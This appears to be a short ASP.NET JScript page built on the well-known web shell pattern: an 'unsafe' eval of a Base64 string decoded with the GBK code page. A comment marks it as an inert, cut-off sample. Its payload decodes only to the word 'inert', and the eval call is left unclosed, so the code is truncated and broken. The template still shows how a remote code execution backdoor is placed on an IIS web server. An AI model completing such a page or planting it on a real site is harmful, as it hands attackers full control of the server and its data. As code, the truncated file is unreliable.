<%@ Page Language="Jscript"%>
<% /* INERT SAMPLE: cut off */ eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String("aW5lcnQ=")), "unsafe" %>
